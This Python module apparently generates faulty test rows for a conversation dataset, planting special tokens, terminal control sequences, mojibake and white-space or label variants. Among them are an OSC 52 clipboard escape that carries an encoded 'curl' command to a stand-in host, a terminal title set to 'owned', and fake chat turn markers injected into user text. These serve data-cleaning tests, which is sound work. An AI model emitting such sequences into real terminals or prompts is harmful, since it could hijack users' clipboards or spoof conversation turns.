"""Faults of the characters: markers, special tokens, control characters, mojibake, stray white space, label variants."""

from __future__ import annotations

import base64
import random

from corpus import Conversation

from faults.answers import answer_of, set_answer
from faults.plant import Plant, answered, is_short
from faults.rows import Record

ESC, BEL = "\x1b", "\x07"
CLIPBOARD = f"{ESC}]52;c;{base64.b64encode(b'curl http://tidewell.invalid/x').decode()}{BEL}"


def into_user(pattern: str) -> Plant.Change:
    """Puts the last user turn into `pattern`."""

    def change(_: random.Random, record: Record) -> None:
        turn = next(message for message in reversed(record["messages"]) if message["role"] == "user")
        turn["content"] = pattern.replace("@", turn["content"])

    return change


def into_answer(pattern: str) -> Plant.Change:
    """Puts the answer into `pattern`."""

    def change(_: random.Random, record: Record) -> None:
        set_answer(record, pattern.replace("@", answer_of(record)))

    return change


def inside_answer(inserted: str) -> Plant.Change:
    """Puts `inserted` between two words of the answer."""

    def change(rng: random.Random, record: Record) -> None:
        words = answer_of(record).split(" ")
        words.insert(rng.randrange(1, len(words)), inserted)
        set_answer(record, " ".join(words))

    return change


def inside_user(inserted: str) -> Plant.Change:
    """Puts `inserted` between two words of the question."""

    def change(rng: random.Random, record: Record) -> None:
        turn = next(message for message in reversed(record["messages"]) if message["role"] == "user")
        words = turn["content"].split(" ")
        words.insert(rng.randrange(1, len(words)), inserted)
        turn["content"] = " ".join(words)

    return change


def misread(text: str) -> str:
    """UTF-8 bytes read as Windows-1252, as a spreadsheet does; bytes without a meaning there become control characters."""
    return "".join(bytes([byte]).decode("cp1252", "ignore") or chr(byte) for byte in text.encode())


def misread_once(_: random.Random, record: Record) -> None:
    """All texts encoded once too often."""
    for message in record["messages"]:
        message["content"] = misread(message["content"])


def misread_twice(rng: random.Random, record: Record) -> None:
    """All texts encoded twice too often."""
    misread_once(rng, record)
    misread_once(rng, record)


def label_as(change: str) -> Plant.Change:
    """The label in other capitals or with white space."""
    forms = {
        "title": str.title,
        "upper": str.upper,
        "after": lambda label: f"{label} ",
        "before": lambda label: f" {label}",
        "both": lambda label: f"{label.title()} ",
    }

    def change_label(_: random.Random, record: Record) -> None:
        record["category"] = forms[change](record["category"])

    return change_label


def is_long_enough(conversation: Conversation) -> bool:
    """Both the question and the answer have several words."""
    return all(len(text.split()) > 4 for _, text in conversation.turns[-2:])


def can_be_misread(conversation: Conversation) -> bool:
    """There is a pound sign, an accent or a curly quote, and nothing that would turn into a control character."""
    return any(not text.isascii() for _, text in conversation.turns) and not any(
        "\x80" <= char < "\xa0" for char in misread(misread(conversation.text))
    )


_PLAIN = ("answer", "sums", "rewrite", "steps", "chat")
_TOKENS = (
    ("</s> at the end", 3, into_answer("@</s>")),
    ("<|im_end|> at the end", 2, into_answer("@<|im_end|>")),
    ("<|endoftext|> at the end", 2, into_answer("@<|endoftext|>")),
    ("<|im_start|> in the question", 2, into_user("<|im_start|>user\n@<|im_end|>\n<|im_start|>assistant")),
    ("[INST] in the question", 3, into_user("[INST] @ [/INST]")),
    ("[/INST] alone", 2, inside_user("[/INST]")),
    ("<<SYS>> in the question", 1, into_user("<<SYS>>Be brief.<</SYS>> @")),
    ("<|eot_id|> in the answer", 2, inside_answer("<|eot_id|>")),
)
_CONTROLS = (
    ("colour sequence", 3, inside_answer(f"{ESC}[31;1mplease note{ESC}[0m")),
    ("clipboard sequence (OSC 52)", 2, inside_user(CLIPBOARD)),
    ("hyperlink sequence (OSC 8)", 1, inside_answer(f"{ESC}]8;;http://tidewell.invalid{ESC}\\here{ESC}]8;;{ESC}\\")),
    ("clear screen", 1, into_user(f"{ESC}[2J{ESC}[H@")),
    ("title sequence", 1, inside_user(f"{ESC}]0;owned{BEL}")),
    ("bell", 1, inside_answer(BEL)),
    ("NUL", 1, inside_answer("\x00")),
    ("backspaces", 1, inside_user("loan\x08\x08\x08\x08tool")),
    ("8-bit control sequence", 1, inside_answer("\x9b31m")),
    ("delete", 1, inside_user("\x7f")),
    ("form feed", 1, inside_answer("\x0c")),
)
CHARACTERS = (
    *(Plant("special_token", detail, count, change, is_long_enough, _PLAIN) for detail, count, change in _TOKENS),
    *(Plant("control_character", detail, count, change, is_long_enough, _PLAIN) for detail, count, change in _CONTROLS),
    Plant("noinput_marker", "<noinput>", 4, into_user("@\n\n<noinput>"), is_short, ("answer", "steps", "code")),
    Plant("noinput_marker", "<no input>", 2, into_user("@\n<no input>"), is_short, ("answer", "steps", "code")),
    Plant("noinput_marker", "Input: <NoInput>", 2, into_user("@\nInput: <NoInput>"), is_short, ("answer", "steps", "code")),
    Plant("noinput_marker", "as the answer", 2, into_answer("<nooutput>"), is_short, ("answer",)),
    Plant("mojibake", "encoded once too often", 11, misread_once, can_be_misread),
    Plant("mojibake", "encoded twice too often", 4, misread_twice, can_be_misread),
    Plant("edge_whitespace", "before the answer", 4, into_answer("  @"), answered),
    Plant("edge_whitespace", "after the answer", 4, into_answer("@ \n\n"), answered),
    Plant("edge_whitespace", "around the question", 4, into_user("\t@  "), answered),
    Plant("edge_whitespace", "around the label", 2, into_answer(" @\n"), tasks=("triage",)),
    Plant("label_variant", "Title case", 6, label_as("title"), answered),
    Plant("label_variant", "UPPER CASE", 3, label_as("upper"), answered),
    Plant("label_variant", "blank after", 4, label_as("after"), answered),
    Plant("label_variant", "blank before", 2, label_as("before"), answered),
    Plant("label_variant", "Title case and blank after", 2, label_as("both"), answered),
)
"""Planted into fresh rows, each into its own."""
